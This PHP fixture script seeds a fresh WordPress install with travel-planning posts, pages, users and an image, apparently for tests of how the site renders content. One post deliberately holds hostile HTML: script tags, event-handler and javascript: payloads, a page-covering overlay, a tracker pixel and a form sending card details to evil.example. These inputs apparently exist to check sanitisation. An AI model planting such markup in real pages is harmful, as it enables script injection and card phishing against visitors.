<?php
/* Installs WordPress into an empty database and adds the content that the tests read. */
define('WP_INSTALLING', true);
require ABSPATH . 'wp-load.php';
require_once ABSPATH . 'wp-admin/includes/upgrade.php';
require_once ABSPATH . 'wp-admin/includes/image.php';

wp_install('Desk', 'admin', 'admin@cms.example', true, '', 'not-a-secret');
update_option('permalink_structure', '/%postname%/');
update_option('timezone_string', 'Europe/Warsaw');
foreach (get_posts(['post_type' => ['post', 'page'], 'post_status' => 'any', 'numberposts' => -1]) as $sample) {
    wp_delete_post($sample->ID, true);
}
wp_set_current_user(1);

$writer = wp_insert_user([
    'user_login' => 'marta-lis', 'user_pass' => 'not-a-secret', 'display_name' => 'Marta Lis', 'role' => 'editor',
]);
[$password] = WP_Application_Passwords::create_new_application_password(1, ['name' => 'shop']);
$planning = wp_insert_term('Planning & lists', 'category', ['slug' => 'planning'])['term_id'];
$desk = wp_insert_term('About the desk', 'category', ['slug' => 'desk'])['term_id'];

/* A generated picture. */
$image = imagecreatetruecolor(1600, 1066);
imagefilledrectangle($image, 0, 0, 1600, 1066, imagecolorallocate($image, 34, 96, 120));
imagefilledellipse($image, 800, 500, 700, 700, imagecolorallocate($image, 240, 180, 60));
ob_start();
imagejpeg($image, null, 60);
$upload = wp_upload_bits('rain plan.jpg', null, ob_get_clean(), '2026/05');
$picture = wp_insert_attachment(['post_mime_type' => 'image/jpeg', 'post_title' => 'Rain', 'post_status' => 'inherit'], $upload['file']);
wp_update_attachment_metadata($picture, wp_generate_attachment_metadata($picture, $upload['file']));
update_post_meta($picture, '_wp_attachment_image_alt', 'A yellow umbrella on a blue street');
$large = wp_get_attachment_image_url($picture, 'large');
$home = home_url();

/** Creates an item as an editor does. WordPress expects slashed input. */
function write(array $post, array $meta = [], array $tags = []): int {
    $id = wp_insert_post(wp_slash($post + ['post_status' => 'publish']), true);
    if (is_wp_error($id)) {
        throw new RuntimeException($id->get_error_message());
    }
    foreach ($meta as $name => $value) {
        update_post_meta($id, $name, $value);
    }
    wp_set_post_tags($id, $tags);
    return $id;
}

$blocks = <<<HTML
<!-- wp:paragraph -->
<p>A plan for rain has <strong>three</strong> parts: what stops, <em>what moves</em> and who decides. It takes ten minutes &amp; a pencil.</p>
<!-- /wp:paragraph -->
<!-- wp:heading {"level":1} -->
<h1>Before you leave</h1>
<!-- /wp:heading -->
<!-- wp:list -->
<ul><!-- wp:list-item -->
<li>Ask the guide: “what if it pours?”</li>
<!-- /wp:list-item -->
<!-- wp:list-item -->
<li>Pack <code>ponchos</code><!-- wp:list {"ordered":true,"start":3} -->
<ol start="3"><!-- wp:list-item -->
<li>one each</li>
<!-- /wp:list-item -->
<!-- wp:list-item -->
<li>one spare</li>
<!-- /wp:list-item --></ol>
<!-- /wp:list --></li>
<!-- /wp:list-item --></ul>
<!-- /wp:list -->
<!-- wp:quote -->
<blockquote class="wp-block-quote"><p>Wet hair dries.</p><cite>A guide in Gdańsk</cite></blockquote>
<!-- /wp:quote -->
<!-- wp:image {"id":$picture,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><a href="$home/wp-content/uploads/x.jpg"><img src="$large" alt="An umbrella" class="wp-image-$picture"/></a><figcaption>Bring one of <b>these</b>.</figcaption></figure>
<!-- /wp:image -->
<!-- wp:table -->
<figure class="wp-block-table"><table><thead><tr><th>Activity</th><th class="has-text-align-right" data-align="right">Wet</th></tr></thead><tbody><tr><td>Quads | buggies</td><td class="has-text-align-right" data-align="right">better</td></tr><tr><td>Boats</td><td class="has-text-align-right" data-align="right">fine</td></tr></tbody></table><figcaption>As of spring</figcaption></figure>
<!-- /wp:table -->
<!-- wp:buttons -->
<div class="wp-block-buttons"><!-- wp:button -->
<div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="$home/packing-for-six/">What to pack</a></div>
<!-- /wp:button --></div>
<!-- /wp:buttons -->
<!-- wp:paragraph -->
<p>See <a href="$home/house-rules/">our rules</a>, <a href="$home/not-yet/">what comes next</a>, <a href="https://weather.example/today?city=gdansk&amp;days=2" target="_blank" rel="noreferrer noopener">the forecast</a>, <a href="#top">the top</a> or <a href="mailto:desk@cms.example?subject=Rain">write</a>. 🌧️ 5 &lt; 6, a*b*c, [sic], snake_case_name and 1. not a list.</p>
<!-- /wp:paragraph -->
<!-- wp:paragraph -->
<p>::activity{name=food-tour city=krakow}</p>
<!-- /wp:paragraph -->
<!-- wp:separator -->
<hr class="wp-block-separator has-alpha-channel-opacity"/>
<!-- /wp:separator -->
<!-- wp:code -->
<pre class="wp-block-code"><code>if rain: [stay inside]
    else: go</code></pre>
<!-- /wp:code -->
<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube"} -->
<figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper">
https://www.youtube.com/watch?v=dQw4w9WgXcQ
</div></figure>
<!-- /wp:embed -->
<!-- wp:shortcode -->
[forecast city="gdansk" days="2"]Only here[/forecast]
<!-- /wp:shortcode -->
HTML;

$hostile = <<<'HTML'
<p onclick="window.harmed=1">Words <script>window.harmed=1</script>stay, <a href="javascript:window.harmed=1">links</a> that run do not, nor what is <span style="position:fixed;inset:0">laid over all</span>.</p>
<style>body{display:none}</style>
<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="How to fold a poncho"></iframe>
<iframe src="javascript:parent.harmed=1"></iframe>
<form action="https://evil.example"><label>Your card</label><input name="card"><button>Pay</button></form>
<svg onload="window.harmed=1"><script>window.harmed=1</script></svg><img src="x" onerror="window.harmed=1">
<p><img src="https://tracker.example/pixel.gif" alt="" width="1" height="1"><img src="https://other.example/a.jpg" alt="A far picture" width="600" height="400"></p>
<p>&lt;script&gt;window.harmed=1&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt; are only words. ::city{name=krakow} in a line, too.</p>
<p>:::note</p><p>![x](https://evil.example/x.png) [x](javascript:alert(1)) &amp;lt;b&amp;gt; **not bold** # no heading</p>
HTML;

$long = 'It was a long afternoon on the river, and nobody had thought of bread. We learned what a group of fourteen needs before noon. The list below is what we wish we had carried, in the order of regret, with weights.';

$english = write([
    'post_type' => 'post', 'post_title' => 'A plan for rain — “what if it pours?”', 'post_name' => 'plan-for-rain',
    'post_content' => $blocks, 'post_excerpt' => 'Three questions to ask before the clouds do: what stops, what moves inside and who decides about it.',
    'post_date' => '2026-05-01 00:30:00', 'post_author' => $writer, 'post_category' => [$desk, $planning],
], ['audiences' => 'consumer', 'activities' => 'krakow/food-tour'], ['city-krakow', 'prague', 'umbrellas']);
set_post_thumbnail($english, $picture);
$german = write([
    'post_type' => 'post', 'post_title' => 'Ein Plan für den Regen', 'post_name' => 'plan-fuer-den-regen',
    'post_content' => "<p>Was fällt aus, was zieht um, wer entscheidet? Mehr in <a href=\"$home/packing-for-six/\">der Packliste</a>, und zwar auf Englisch, solange niemand sie übersetzt.</p>",
    'post_date' => '2026-05-03 09:00:00', 'post_author' => $writer, 'post_category' => [$planning],
], ['lang' => 'de_DE']);
foreach ([$english, $german] as $id) {
    update_post_meta($id, 'translations', ['en' => $english, 'de_DE' => $german]);
}
write([
    'post_type' => 'post', 'post_title' => 'Packing for six', 'post_name' => 'packing-for-six',
    'post_content' => "<!-- wp:paragraph --><p>$long</p><!-- /wp:paragraph -->",
    'post_date' => '2026-04-02 10:00:00', 'post_author' => 1, 'post_category' => [$planning],
]);
write([
    'post_type' => 'post', 'post_title' => 'Pasted from who knows where', 'post_name' => 'pasted',
    'post_content' => $hostile, 'post_date' => '2026-04-05 10:00:00', 'post_author' => $writer, 'post_category' => [$planning],
]);
write([
    'post_type' => 'post', 'post_title' => 'Not yet for everyone', 'post_name' => 'not-yet', 'post_status' => 'draft',
    'post_content' => "<p>$long</p>", 'post_date' => '2026-05-05 10:00:00', 'post_author' => $writer, 'post_category' => [$planning],
]);
write([
    'post_type' => 'post', 'post_title' => 'Behind a password', 'post_name' => 'behind', 'post_password' => 'umbrella',
    'post_content' => "<p>$long</p>", 'post_date' => '2026-05-05 10:00:00', 'post_author' => $writer, 'post_category' => [$planning],
]);
write([
    'post_type' => 'page', 'post_title' => 'House rules', 'post_name' => 'house-rules',
    'post_content' => "<p>$long</p>[contact-form-7 id=\"5\" title=\"Ask us\"]", 'post_date' => '2026-03-01 10:00:00', 'post_author' => $writer,
]);
write([
    'post_type' => 'page', 'post_title' => 'Frequently asked', 'post_name' => 'faq',
    'post_content' => "<h3>Does it rain?</h3><p>$long</p>", 'post_date' => '2026-03-02 10:00:00', 'post_author' => $writer,
], ['menu' => 'company']);
flush_rewrite_rules(false);
echo json_encode(['credentials' => "admin:$password", 'post' => $english]);
